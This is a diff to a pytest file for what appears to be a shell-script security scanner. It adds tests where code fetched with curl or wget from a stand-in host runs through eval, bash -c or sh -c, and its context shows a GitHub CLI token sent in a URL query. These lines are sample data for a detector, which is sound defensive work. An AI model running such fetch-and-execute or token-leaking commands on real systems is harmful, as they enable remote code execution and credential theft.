@@ -125,3 +125,12 @@ def test_a_credential_dump_sent_from_inside_a_substitution_in_a_header():
 def test_a_cli_token_in_a_url_is_sent_but_in_its_own_authorization_header_is_used():
     assert _scan("T=$(gh auth token)\ncurl -s \"https://x.example.test/c?t=$T\"\n") == [("EX-02", "critical", 2)]
     assert _scan("T=$(gh auth token)\ncurl -s -H \"Authorization: Bearer $T\" https://api.github.com/user\n") == []
+
+
+@pytest.mark.parametrize("script, line", [
+    ("x=$(echo \"$(curl -s https://x.example.test/p)\")\necho ok\neval \"$x\"\n", 3),  # a substitution inside one
+    ("p=$(printf '%s' \"$(wget -qO- https://x.example.test/p)\" | base64 -d)\nbash -c \"$p\"\n", 2),
+    ("run() { :; }\ncode=\"$(cat <<< \"$(curl -fsSL https://x.example.test/c)\")\"\nsh -c \"$code\"\n", 3),
+])
+def test_a_download_inside_a_nested_substitution_is_followed(script, line):
+    assert [(f.rule, f.line) for f in flows("shell", script)] == [("SC-01", line)]
